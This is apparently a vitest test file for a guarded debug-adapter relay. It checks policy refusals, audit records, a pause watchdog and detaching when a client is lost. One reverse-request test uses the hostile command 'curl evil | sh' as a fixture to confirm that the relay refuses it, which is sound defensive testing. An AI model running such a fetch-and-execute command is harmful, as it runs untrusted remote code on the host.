import type { DebugProtocol } from '@vscode/debugprotocol';
import pino from 'pino';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { DapMessage } from '../../../src/dap/dapMessage.js';
import { RelayMetrics } from '../../../src/metrics/relayMetrics.js';
import type { PolicyName } from '../../../src/config/guardrailsConfigSchema.js';
import { MemoryAuditSink, settle, trackedSessions, type Harness } from '../../support/harness/guardedHarness.js';

const { open, closeAll } = trackedSessions();
afterEach(async () => {
  vi.useRealTimers();
  await closeAll();
});

/** A DAP message as golden text: stable fields only (seq and request_seq masked). */
function golden(message: DapMessage): string {
  const { seq: _seq, ...rest } = message as DapMessage & { request_seq?: number };
  if ('request_seq' in rest) rest.request_seq = 0;
  return JSON.stringify(rest);
}

/** What the client does in each policy's golden transcript. */
const script: Array<[string, unknown]> = [
  ['threads', undefined],
  ['setBreakpoints', { source: { path: '/srv/app.py' }, breakpoints: [{ line: 10 }] }],
  ['setBreakpoints', { source: { path: '/srv/app.py' }, breakpoints: [{ line: 10, condition: 'n > 3' }] }],
  ['setBreakpoints', { source: { path: '/srv/app.py' }, breakpoints: [{ line: 10, logMessage: 'n={n}' }] }],
  ['setExceptionBreakpoints', { filters: ['uncaught'] }],
  ['evaluate', { expression: 'os.environ', frameId: 1, context: 'repl' }],
  ['setVariable', { variablesReference: 7, name: 'n', value: '0' }],
  ['completions', { text: 'os.', column: 4 }],
  ['pause', { threadId: 1 }],
  ['next', { threadId: 1 }],
  ['continue', { threadId: 1 }],
];

describe('policies (golden DAP transcripts)', () => {
  it.each<PolicyName>(['full', 'no-eval', 'logpoints-only'])('%s', async (policy) => {
    const h = await open({ policies: { default: policy, targets: {}, principals: {} } });
    const lines: string[] = [];
    for (const [command, args] of script) {
      const response = await h.request(command, args);
      const forwarded = h.adapter.requests().some((r) => r.seq === response.request_seq);
      lines.push(`client → ${command}: ${golden(response)}${forwarded ? '' : ' [not forwarded]'}`);
    }
    await expect(lines.join('\n') + '\n').toMatchFileSnapshot(`golden/policy-${policy}.txt`);
    // A refused request never reaches the adapter; an allowed one does, unchanged.
    const refused = h.client.responses().filter((r) => !r.success);
    for (const response of refused) {
      expect(response.message).toContain(`refused by policy "${policy}"`);
      expect(h.adapter.requests().some((r) => r.seq === response.request_seq)).toBe(false);
    }
    expect(h.audit.named('dap.refused')).toHaveLength(refused.length);
    expect(h.audit.named('dap.refused').every((r) => r['policy'] === policy)).toBe(true);
  });
});

describe('audit of requests', () => {
  it('records state-changing and code-running requests before forwarding them', async () => {
    const h = await open();
    await h.request('evaluate', { expression: 'user.password_hash', frameId: 3, context: 'watch' });
    await h.request('stackTrace', { threadId: 1 });
    await h.request('setBreakpoints', {
      source: { path: '/srv/app.py' },
      breakpoints: [
        { line: 4, condition: 'x == 1' },
        { line: 9, logMessage: 'y={y}' },
      ],
    });
    await h.request('continue', { threadId: 1 });
    const requests = h.audit.named('dap.request');
    expect(requests.map((r) => r['command'])).toEqual(['evaluate', 'setBreakpoints', 'continue']);
    expect(requests[0]).toMatchObject({ principal: 'jwt:alice', target: 'web-1', session: expect.any(String), expression: 'user.password_hash', context: 'watch' });
    expect(requests[1]).toMatchObject({
      source: '/srv/app.py',
      breakpoints: [
        { line: 4, condition: 'x == 1' },
        { line: 9, logMessage: 'y={y}' },
      ],
    });
  });

  it('refuses an audited request when the audit log cannot be written, but never a disconnect', async () => {
    const audit = new MemoryAuditSink();
    const h = await open({ audit });
    audit.failing = true;
    const refused = await h.request('evaluate', { expression: '1+1' });
    expect(refused.success).toBe(false);
    expect(refused.message).toContain('audit log is unavailable');
    expect(h.adapter.requests('evaluate')).toHaveLength(0);
    expect((await h.request('threads')).success).toBe(true); // not audited: forwarded
    expect((await h.request('disconnect', { terminateDebuggee: false })).success).toBe(true);
  });

  it('cuts long values to audit.maxValueChars, but refuses a request whose code would be cut', async () => {
    const h = await open({ maxAuditValueChars: 16 });
    await h.request('setBreakpoints', { source: { path: `/${'x'.repeat(99)}` }, breakpoints: [{ line: 1 }] });
    expect(h.audit.named('dap.request')[0]!['source']).toBe(`/${'x'.repeat(15)}…[84 more]`);
    const refused = await h.request('evaluate', { expression: 'x'.repeat(100) });
    expect(refused.success).toBe(false);
    expect(refused.message).toContain('evaluate refused: its audit record could not show all the code it carries (AUDIT_RECORD_TOO_LARGE)');
    expect(h.adapter.requests('evaluate')).toHaveLength(0);
    expect(h.audit.named('dap.refused')[0]).toMatchObject({ command: 'evaluate', reason: expect.stringContaining('AUDIT_RECORD_TOO_LARGE') });
  });
});

describe('reverse requests from the adapter side', () => {
  it('never forwards runInTerminal: the adapter gets an error response', async () => {
    const h = await open();
    h.adapter.send({ type: 'request', seq: 50, command: 'runInTerminal', arguments: { kind: 'integrated', cwd: '/', args: ['sh', '-c', 'curl evil | sh'] } });
    await settle();
    expect(h.client.messages).toHaveLength(0);
    const answer = h.adapter.responses().find((r) => r.request_seq === 50)!;
    expect(answer).toMatchObject({ command: 'runInTerminal', success: false });
    expect(answer.message).toContain('runInTerminal');
    expect(h.audit.named('dap.refused')[0]).toMatchObject({ command: 'runInTerminal', direction: 'toClient' });
  });

  it('allows startDebugging only as attach', async () => {
    const h = await open();
    h.adapter.send({ type: 'request', seq: 51, command: 'startDebugging', arguments: { request: 'launch', configuration: { program: '/tmp/x.py' } } });
    h.adapter.send({ type: 'request', seq: 52, command: 'startDebugging', arguments: { configuration: { subProcessId: 9 } } });
    h.adapter.send({
      type: 'request',
      seq: 53,
      command: 'startDebugging',
      arguments: { request: 'attach', configuration: { subProcessId: 7, connect: { host: '127.0.0.1', port: 1 } } },
    });
    await settle();
    expect(h.client.requests('startDebugging').map((r) => r.seq)).toEqual([53]);
    expect(
      h.adapter
        .responses()
        .filter((r) => !r.success)
        .map((r) => r.request_seq)
        .sort(),
    ).toEqual([51, 52]);
    expect(h.audit.named('dap.subprocess')).toEqual([expect.objectContaining({ via: 'startDebugging', subProcessId: 7 })]);
  });

  it('drops a debugpyAttach event that is not an attach', async () => {
    const h = await open();
    h.adapter.send({ type: 'event', seq: 60, event: 'debugpyAttach', body: { request: 'launch', program: 'x' } });
    h.adapter.send({ type: 'event', seq: 61, event: 'debugpyAttach', body: { subProcessId: 4, connect: { host: '127.0.0.1', port: 1 } } });
    await settle();
    expect(h.client.events('debugpyAttach').map((e) => e.seq)).toEqual([61]);
  });
});

describe('pause watchdog', () => {
  const stopped = (threadId: number): object => ({ type: 'event', seq: 70 + threadId, event: 'stopped', body: { reason: 'breakpoint', threadId, allThreadsStopped: true } });

  it('resumes a debuggee stopped longer than the bound, tells the client and records it', async () => {
    const h = await open({ pauseWatchdog: { maxPauseMs: 60, targets: {} } });
    h.adapter.send(stopped(3));
    await new Promise((resolve) => setTimeout(resolve, 200));
    const resumes = h.adapter.requests('continue');
    expect(resumes).toHaveLength(1);
    expect(resumes[0]!.arguments).toEqual({ threadId: 3, singleThread: false });
    expect(resumes[0]!.seq).toBeGreaterThanOrEqual(0x2000_0000);
    // The relay's continue is answered by the fake adapter; the client never sees that answer.
    expect(h.client.responses()).toHaveLength(0);
    const output = h.client.events('output')[0] as DebugProtocol.OutputEvent;
    expect(output.body.output).toMatch(/paused for \d+ s, longer than this target allows \(60 ms, pauseWatchdog\)/);
    expect(h.client.events('continued')[0]!.body).toEqual({ threadId: 3, allThreadsContinued: true });
    expect(h.audit.named('watchdog.resumed')[0]).toMatchObject({ threadId: 3, maxPauseMs: 60, target: 'web-1' });
  });

  /** Attaches `h`'s client, debugpy answering by hand (the detach only follows an attached session). */
  const attached = async (h: Awaited<ReturnType<typeof open>>): Promise<void> => {
    h.client.send({ type: 'request', seq: 1, command: 'attach', arguments: {} });
    await vi.waitFor(() => expect(h.adapter.requests('attach')).toHaveLength(1));
    h.adapter.send({ type: 'response', seq: 1, request_seq: h.adapter.requests('attach')[0]!.seq, command: 'attach', success: true });
    await vi.waitFor(() => expect(h.client.responses()).toHaveLength(1));
  };

  it('ends the session, so that the detach resumes the program, when debugpy refuses its continue', async () => {
    const h = await open({ autoAnswer: false, pauseWatchdog: { maxPauseMs: 60, targets: {} } });
    await attached(h);
    h.adapter.send(stopped(3));
    await vi.waitFor(() => expect(h.adapter.requests('continue')).toHaveLength(1));
    const [request] = h.adapter.requests('continue');
    h.adapter.send({ type: 'response', seq: 90, request_seq: request!.seq, command: 'continue', success: false, message: 'no such thread' });
    // the detach: debugpy is told to disconnect without ending the program (which resumes it)
    await vi.waitFor(() => expect(h.adapter.requests('disconnect')).toHaveLength(1));
    expect(h.adapter.requests('disconnect')[0]!.arguments).toMatchObject({ terminateDebuggee: false });
    const notices = h.client.events('output').map((event) => (event as DebugProtocol.OutputEvent).body.output);
    expect(notices.some((text) => text.includes('debugpy refused the continue; the relay ends this session'))).toBe(true);
    await h.closed;
  });

  it('ends the session when debugpy does not answer its continue within sessions.detachTimeoutMs', async () => {
    const h = await open({ autoAnswer: false, pauseWatchdog: { maxPauseMs: 60, targets: {} }, sessions: { exclusive: true, detachTimeoutMs: 80, takeoverTimeoutMs: 1_000 } });
    await attached(h);
    h.adapter.send(stopped(3));
    await vi.waitFor(() => expect(h.adapter.requests('disconnect')).toHaveLength(1), { timeout: 2_000 });
    expect(h.adapter.requests('continue')).toHaveLength(1);
    const notices = h.client.events('output').map((event) => (event as DebugProtocol.OutputEvent).body.output);
    expect(notices.some((text) => text.includes('debugpy did not answer the continue within 80 ms'))).toBe(true);
    await h.closed; // no answer to the disconnect either: the detach's own bound closes the session
  });

  it('does nothing when the client resumes in time', async () => {
    const h = await open({ pauseWatchdog: { maxPauseMs: 80, targets: {} } });
    h.adapter.send(stopped(1));
    await settle();
    await h.request('continue', { threadId: 1 });
    await new Promise((resolve) => setTimeout(resolve, 160));
    expect(h.adapter.requests('continue')).toHaveLength(1); // the client's own
    expect(h.audit.named('watchdog.resumed')).toHaveLength(0);
  });

  it('uses the smallest matching per-target bound', async () => {
    const guards = (await open({ pauseWatchdog: { maxPauseMs: 0, targets: { 'web-*': 90_000, 'web-1': 30_000, 'db-*': 0 } } })).guards;
    expect(guards.maxPauseMsFor('web-1')).toBe(30_000);
    expect(guards.maxPauseMsFor('web-2')).toBe(90_000);
    expect(guards.maxPauseMsFor('db-1')).toBe(0);
    expect(guards.maxPauseMsFor('other')).toBe(0);
  });
});

describe('client loss', () => {
  async function attached(h: Harness): Promise<void> {
    await h.request('initialize', { adapterID: 'debugpy' });
    await h.request('attach', {});
  }

  it('detaches an attached debugger with terminateDebuggee false before closing the adapter side', async () => {
    const h = await open();
    await attached(h);
    h.client.transport.destroy();
    const reason = await h.closed;
    expect(reason.closedBy).toBe('client');
    const detach = h.adapter.requests('disconnect');
    expect(detach).toHaveLength(1);
    expect(detach[0]!.arguments).toEqual({ terminateDebuggee: false, restart: false });
    await settle();
    expect(h.adapter.transport.closed).toBe(true);
    expect(h.audit.named('session.detached')[0]).toMatchObject({ outcome: 'detached' });
    expect(h.audit.named('session.closed')[0]).toMatchObject({ closedBy: 'client' });
  });

  it.each([
    ['a duplicate Content-Length', 'Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}'],
    ['whitespace before the colon', 'Content-Length : 2\r\n\r\n{}'],
    ['a body that is not a DAP message', 'Content-Length: 2\r\n\r\n[]'],
  ])('detaches when the client sends %s, tells it why, and forwards none of it', async (_name, bad) => {
    const h = await open();
    await attached(h);
    const forwarded = h.adapter.messages.length;
    h.client.transport.send(Buffer.from(bad));
    const reason = await h.closed;
    expect(reason).toMatchObject({ closedBy: 'protocolError', side: 'client', error: { code: 'BAD_REQUEST' } });
    const after = h.adapter.messages.slice(forwarded);
    expect(after).toEqual([expect.objectContaining({ command: 'disconnect', arguments: { terminateDebuggee: false, restart: false } })]);
    expect(h.audit.named('session.detached')[0]).toMatchObject({ outcome: 'detached' });
    expect(h.audit.named('session.closed')[0]).toMatchObject({ closedBy: 'protocolError' });
    const notice = h.client.events('output').at(-1) as DebugProtocol.OutputEvent | undefined;
    expect(notice?.body.output).toMatch(/^dbgrelay: the client sent DAP the relay cannot forward safely \(BAD_REQUEST: .*detaches the debugger/);
  });

  it('detaches on relay shutdown (pipe.close) as well', async () => {
    const h = await open();
    await attached(h);
    h.pipe.close();
    await h.closed;
    expect(h.adapter.requests('disconnect')).toHaveLength(1);
  });

  it('still detaches after a terminate the policy refused (logpoints-only), when the client then drops', async () => {
    const h = await open({ policies: { default: 'logpoints-only', targets: {}, principals: {} } });
    await attached(h);
    const refused = await h.request('terminate', {});
    expect(refused.success).toBe(false);
    expect(h.adapter.requests('terminate')).toHaveLength(0);
    h.client.transport.destroy();
    await h.closed;
    expect(h.adapter.requests('disconnect')).toEqual([expect.objectContaining({ arguments: { terminateDebuggee: false, restart: false } })]);
    expect(h.audit.named('session.detached')[0]).toMatchObject({ outcome: 'detached' });
  });

  it('still detaches after a disconnect the adapter refused, when the client then drops', async () => {
    const h = await open({ autoAnswer: false });
    const answer = (command: string, success: boolean): void => {
      const request = h.adapter.requests(command).at(-1)!;
      h.adapter.send({ type: 'response', seq: 900 + request.seq, request_seq: request.seq, command, success, body: {} });
    };
    const attachDone = h.request('attach', {});
    await vi.waitFor(() => expect(h.adapter.requests('attach')).toHaveLength(1));
    answer('attach', true);
    await attachDone;
    const bye = h.request('disconnect', { terminateDebuggee: false });
    await vi.waitFor(() => expect(h.adapter.requests('disconnect')).toHaveLength(1));
    answer('disconnect', false);
    expect((await bye).success).toBe(false);
    h.client.transport.destroy();
    await vi.waitFor(() => expect(h.adapter.requests('disconnect')).toHaveLength(2)); // the relay's own
    answer('disconnect', true);
    await h.closed;
    expect(h.audit.named('session.detached')[0]).toMatchObject({ outcome: 'detached' });
  });

  it('forwards continue and disconnect when the audit log is unavailable, and logs the loss', async () => {
    const audit = new MemoryAuditSink();
    const metrics = new RelayMetrics();
    const logged: Array<Record<string, unknown>> = [];
    const logger = pino({ level: 'info' }, { write: (line: string) => void logged.push(JSON.parse(line) as Record<string, unknown>) });
    const h = await open({ audit, logger, metrics: metrics.guardrails });
    audit.failing = true;
    expect((await h.request('continue', { threadId: 1 })).success).toBe(true);
    expect((await h.request('stepIn', { threadId: 1 })).success).toBe(true);
    expect(h.adapter.requests('continue')).toHaveLength(1);
    expect(h.adapter.requests('stepIn')).toHaveLength(1);
    expect((await h.request('pause', { threadId: 1 })).success).toBe(false); // pausing is refused as before
    expect((await h.request('disconnect', { terminateDebuggee: false })).success).toBe(true);
    expect(h.adapter.requests('disconnect')).toHaveLength(1);
    const lost = logged.filter((entry) => typeof entry['msg'] === 'string' && entry['msg'].startsWith('audit record lost'));
    expect(lost.map((entry) => [entry['code'], entry['command']])).toEqual([
      ['AUDIT_UNAVAILABLE', 'continue'],
      ['AUDIT_UNAVAILABLE', 'stepIn'],
      ['AUDIT_UNAVAILABLE', 'disconnect'],
    ]);
    expect(await metrics.valueOf('dbgrelay_audit_unrecorded_total', { reason: 'unavailable' })).toBe(3);
    expect(audit.records.filter((r) => r.event === 'dap.request')).toEqual([]); // nothing was recorded: the loss is only in the log and the metric
  });

  it('leaves a session that said goodbye, or never attached, alone', async () => {
    const bye = await open();
    await attached(bye);
    await bye.request('disconnect', { terminateDebuggee: false });
    bye.client.transport.close();
    await bye.closed;
    expect(bye.adapter.requests('disconnect')).toHaveLength(1); // the client's own

    const early = await open();
    await early.request('initialize', { adapterID: 'debugpy' });
    early.client.transport.close();
    await early.closed;
    expect(early.adapter.requests('disconnect')).toHaveLength(0); // the agent's bridge finishes the handshake
  });

  it('gives up waiting after sessions.detachTimeoutMs', async () => {
    const h = await open({ autoAnswer: false, sessions: { exclusive: true, detachTimeoutMs: 50, takeoverTimeoutMs: 100 } });
    h.client.send({ type: 'request', seq: 1, command: 'attach', arguments: {} });
    await settle();
    h.adapter.send({ type: 'response', seq: 1, request_seq: 1, command: 'attach', success: true });
    await settle();
    const started = Date.now();
    h.client.transport.close();
    await h.closed;
    expect(Date.now() - started).toBeGreaterThanOrEqual(45);
    expect(h.audit.named('session.detached')[0]).toMatchObject({ outcome: 'timeout' });
  });
});
